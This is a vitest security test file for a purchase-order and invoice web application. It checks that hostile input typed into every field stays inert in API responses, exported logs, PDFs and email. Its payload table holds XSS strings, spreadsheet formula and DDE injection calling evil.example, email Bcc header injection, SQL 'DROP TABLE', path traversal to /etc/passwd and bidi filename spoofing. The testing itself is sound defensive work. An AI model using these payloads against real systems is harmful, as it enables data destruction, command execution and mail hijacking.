import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { codes } from '#domain/codes';
import { withoutUnseen } from '#domain/safe-text';
import { closePrinter } from '#edges/pdf-renderer';
import { arrived, pdfOf } from '../support/worker/arrived.ts';
import { parseCsv } from '../support/worker/parse-csv.ts';
import { aDraft, aLine, as, sessionOf, submitted, type Answer } from '../support/worker/studio-client.ts';
import { openAllTypes } from '../support/worker/studio-all-types.ts';
import { anInvoice } from '../support/worker/studio-invoices.ts';
import { carried, mailAs, sendingOf } from '../support/worker/studio-mail.ts';
import { makePdf, onePage, uploaded } from '../support/worker/studio-pdf.ts';
import { chosen } from '../support/worker/studio-shows.ts';
import { inShow } from '../support/worker/studio-rows.ts';
import { aFlow, level } from '../support/worker/studio-templates.ts';
import { fetchWorker, origin, rowsOf, sent, studioEnv, sql } from '../support/worker/studio.ts';

beforeAll(async () => {
  await openAllTypes();
  const { DIRECTORY } = studioEnv;
  await DIRECTORY.batch([
    DIRECTORY.prepare("UPDATE memberships SET role = 'EP Internal' WHERE user_id = 'otto'"),
    DIRECTORY.prepare("UPDATE memberships SET invoice_module_visible = 1 WHERE user_id = 'dana'"),
  ]);
});
afterAll(() => closePrinter(studioEnv));

/** What somebody may type, or paste, into any field. */
const payloads: Record<string, string> = {
  'a script': '<script>globalThis.hurt=1</script>',
  'an image': '"><img src=x onerror=globalThis.hurt=1>',
  'a link': '<a href="javascript:alert(1)">pay</a>',
  'a formula': '=HYPERLINK("http://evil.example","pay")&A1',
  'a formula of another kind': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a header': 'x\r\nBcc: eve@evil.example\r\n\r\n<b>hi</b>',
  'a header behind other breaks': 'x\u2028Bcc: eve@evil.example\u0085Y',
  bidi: 'invoice\u202Efdp.exe\u2066\u200F',
  'a NUL': 'before\u0000after',
  'a NUL before all': '\u0000after',
  'half a character': 'cut \uD83D here',
  'a template': '{{7*7}}${7*7}<%= 7*7 %>',
  SQL: "'; DROP TABLE documents; --",
  'a path': '../../../etc/passwd',
  'a prototype': '__proto__',
  combining: `Z${'\u0301'.repeat(30)}`,
};
const ids = inShow('alpha1');
type Said = Promise<Answer<object>>;

async function anOrder(own: object): Said {
  return as('dana').post('/api/pos', aDraft(own));
}
async function aNote(content: string): Said {
  const { id } = (await as('dana').post<{ id: string }>('/api/pos', aDraft())).body;
  return as('dana').post(`/api/pos/${id}/notes?showId=alpha1`, { content, keyId: crypto.randomUUID() });
}
async function aReason(reason: string): Said {
  const po = await submitted('dana');
  const body = {
    docId: po.id,
    docType: 'PO',
    showId: 'alpha1',
    reason,
    workflowStepId: po.workflow?.currentStep?.id,
  };
  await as('abel').post('/api/workflows/revision', body);
  return as('dana').get(`/api/pos/${po.id}`);
}
const person = (own: object) => ({
  username: `${crypto.randomUUID()}@backlot.example`,
  firstName: 'New',
  lastName: 'Face',
  roleId: 'PO Creator',
  ...own,
});

/** Every field that people type into, and the answer that shows it again. */
const fields: Record<string, (text: string) => Said> = {
  'description of an order': (description) => anOrder({ description }),
  'line of an order': (description) =>
    anOrder({ lineItems: [aLine({ description, episode: description.slice(0, 20) })] }),
  'temporary vendor': (name) =>
    anOrder({ vendor: { isTemporary: true, name, address: name, contact: name }, vendorAddress: null }),
  'number of an invoice': (text) =>
    as('dana').post('/api/invoices', anInvoice({ number: text.slice(0, 30) })),
  'contact of an invoice': (contactName) => as('dana').post('/api/invoices', anInvoice({ contactName })),
  note: aNote,
  reason: aReason,
  department: (name) => as('ada').post('/api/departments?showId=alpha1', { name }),
  category: (name) => as('ada').post('/api/shows/alpha1/categories', { name }),
  address: (name) =>
    as('ada').post('/api/shows/alpha1/address?addressType=BILL_TO', { name, address1: name, city: name }),
  'name of a person': (name) =>
    as('ada').post('/api/users?show=alpha1', person({ firstName: name, lastName: name })),
  'flow and step': (name) =>
    as('ada').post(
      '/api/purchase-order-workflow-template',
      aFlow({ name, steps: [level(['lena'], { name })] }),
    ),
  show: (name) => as('otto').patch('/api/shows/alpha1/resource?showId=alpha1', { name }),
  'file name': (name) => as('dana').upload({ name, bytes: 'x' }),
};
/** What nobody sees is left out (ER-19). The store writes UTF-8: what is no character becomes one or more of the marks for it. */
const marked = (text: string) =>
  text
    .toWellFormed()
    .replaceAll(/[\0\u200F\u202E\u2066]/g, '')
    .replaceAll(/\uFFFD+|\\ud83d/g, '\uFFFD');

describe('hostile text through every field of the API', () => {
  test.each(Object.entries(payloads))('%s is kept as typed, or refused', async (_, text) => {
    for (const [field, write] of Object.entries(fields)) {
      const { status, body, headers } = await write(text);
      const said = JSON.stringify(body);
      if (status >= 400) {
        expect(Object.keys(codes), `${field}: ${said}`).toContain((body as { code?: string }).code);
        continue;
      }
      expect(headers.get('content-type'), field).toMatch(/^application\/json/);
      expect(headers.get('x-content-type-options'), field).toBe('nosniff');
      // File names lose what is no name; numbers and reasons are cut to their length.
      if (!['file name', 'number of an invoice', 'show'].includes(field))
        expect(marked(said), field).toContain(JSON.stringify(marked(text).trim()).slice(1, -1));
    }
    await sql.directory`UPDATE shows SET name = 'Alpha Station' WHERE id = 'alpha1'`;
  });

  test('what is nothing but NUL is nothing', async () => {
    const text = '\u0000 \u0000';
    const statuses: Record<string, number> = {};
    for (const [field, write] of Object.entries(fields)) {
      const { status, body } = await write(text);
      statuses[field] = status;
      expect(JSON.stringify(body), field).not.toContain('u0000');
    }
    expect(statuses).toMatchObject({ note: 400, department: 400, category: 400, address: 400 });
  });

  test('half a character is a license that the books do not know', async () => {
    const { status, body } = await as('otto').post('/api/shows?showId=alpha1', {
      ...chosen,
      name: 'Half',
      license: '\uD800',
    });
    expect([status < 500, Object.keys(codes).includes(String(body['code']))]).toEqual([true, true]);
  });

  test('1 MB is refused in every field, or cut to its bound', async () => {
    for (const [field, write] of Object.entries(fields)) {
      const { status, body } = await write('€'.repeat(350_000));
      const isKept = status < 400 && JSON.stringify(body).length > 100_000;
      expect([field, status < 500, isKept]).toEqual([field, true, false]);
    }
  });
});

interface Full {
  order: string;
  invoice: string;
}

/** As a browser writes it into a form; it sends no NUL. */
const asFileName = (text: string) =>
  text.replaceAll('\u0000', '').replaceAll(/[\r\n"]/g, (one) => encodeURIComponent(one));

/** An order and an invoice that say it in every place which their paper, their mail or their log shows. */
async function saying(text: string): Promise<Full> {
  const set = async (sql: string) => rowsOf('alpha1', sql, text.toWellFormed());
  // Names that another test has given are taken.
  await set("UPDATE departments SET name = ? || ' of art' WHERE id = 'alpha1_department_art'");
  await set("UPDATE categories SET name = ? || ' of props' WHERE id = 'alpha1_category_props'");
  await set("UPDATE vendors SET name = ? WHERE id = 'alpha1_vendor_lumen'");
  await set("UPDATE vendor_addresses SET address1 = ?1, city = ?1 WHERE vendor_id = 'alpha1_vendor_lumen'");
  await set("UPDATE addresses SET name = ?1, address1 = ?1 WHERE show_id = 'alpha1'");
  await set("UPDATE companies SET name = ? WHERE show_id = 'alpha1'");
  await set("UPDATE workflow_template_steps SET name = ? WHERE show_id = 'alpha1'");
  const { DIRECTORY } = studioEnv;
  await DIRECTORY.batch([
    DIRECTORY.prepare("UPDATE shows SET name = ? WHERE id = 'alpha1'").bind(text.toWellFormed()),
    DIRECTORY.prepare("UPDATE users SET first_name = ?1, last_name = ?1 WHERE id = 'dana'").bind(
      text.toWellFormed(),
    ),
  ]);
  const file = await uploaded('dana', 'po', `${asFileName(text)}.pdf`, await onePage('the quote'));
  const scan = await uploaded('ivan', 'invoice', `${asFileName(text)}.docx`, 'no document');
  const lines = [aLine({ description: text, keyId: text.slice(0, 90), episode: text.slice(0, 20) })];
  const category = { id: ids.category('props'), name: text };
  const order = await anOrder({ description: text, lineItems: lines, attachments: [file], category });
  const bill = anInvoice({
    description: text,
    contactName: text,
    number: text.slice(0, 30),
    attachments: [scan],
  });
  const invoice = await as('ivan').post('/api/invoices', bill);
  expect([order.status, invoice.status], JSON.stringify([invoice.body, order.body])).toEqual([201, 201]);
  const [one, other] = [order.body, invoice.body] as { id: string }[];
  const note = { content: text, keyId: 'k' };
  expect((await as('dana').post(`/api/pos/${one?.id}/notes?showId=alpha1`, note)).status).toBe(201);
  expect((await as('ivan').post(`/api/invoices/${other?.id}/notes?showId=alpha1`, note)).status).toBe(201);
  return { order: one?.id ?? '', invoice: other?.id ?? '' };
}

async function logOf(
  kind: 'po' | 'invoice',
  format: 'csv' | 'xlsx',
): Promise<{ name: string; rows: unknown[][] }> {
  const { token } = await sessionOf(kind === 'po' ? 'dana' : 'ivan');
  const path = `/api/reports/download/${kind}-log/alpha1?format=${format}`;
  const answer = await fetchWorker(
    new Request(`${origin}${path}`, { headers: { cookie: `__Host-session-token=${token}` } }),
  );
  expect(answer.status).toBe(200);
  const bytes = new Uint8Array(await answer.arrayBuffer());
  const name = answer.headers.get('content-disposition') ?? '';
  if (format === 'csv') return { name, rows: parseCsv(new TextDecoder().decode(bytes)) };
  const { sheets } = await readXlsx(bytes, { readStyles: true });
  const sheet = sheets[0];
  expect([...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)).toEqual([]);
  return { name, rows: sheet?.rows ?? [] };
}

const onOneLine = /^attachment; filename="[\w .()-]+"$/;
const startsFormula = /^[\s"]*[=+\-@＝]\D/;

describe('hostile text in what leaves the application', () => {
  test.each(Object.entries(payloads))(
    '%s in log, paper and mail is text',
    async (_, text) => {
      const { order, invoice } = await saying(text);
      for (const kind of ['po', 'invoice'] as const) {
        for (const format of ['csv', 'xlsx'] as const) {
          const { name, rows } = await logOf(kind, format);
          expect(name).toMatch(onOneLine);
          const cells = rows.flat().filter((cell) => typeof cell === 'string');
          if (format === 'csv') expect(cells.filter((cell) => startsFormula.test(cell))).toEqual([]);
          const begins = withoutUnseen(text).slice(0, 5).toWellFormed();
          expect(JSON.stringify(cells)).toContain(JSON.stringify(begins).slice(1, -1));
        }
      }
      for (const [docType, id] of [
        ['PO', order],
        ['INVOICE', invoice],
      ] as const) {
        const name = docType === 'PO' ? 'dana' : 'ivan';
        const { task, pages } = await makePdf(name, docType, id);
        expect(task.fileName).toMatch(/^[\w.-]{1,50}\.pdf$/);
        // A script on paper can only be read: it is still there.
        if (/<\w/.test(text)) expect(pages.join(' ').replaceAll(/\s/g, '')).toContain(/<\w+/.exec(text)?.[0]);
        sent.outbox.length = 0;
        const note = text.toWellFormed().slice(0, 150);
        const asked = await mailAs(name, sendingOf(docType, id, { emailNote: note, docNumber: text }));
        expect(asked.status, JSON.stringify(asked.body)).toBe(200);
        const [mail] = (await carried()).filter(({ attachments }) => attachments);
        const got = await arrived(mail);
        expect(got.to).toEqual(['ann@accounts.example']);
        expect(got.html).not.toMatch(/<script|<img src=x|href="javascript:/);
        expect((await pdfOf(got)).name).toMatch(/^[\w.-]{1,50}$/);
      }
    },
    60_000,
  );
});
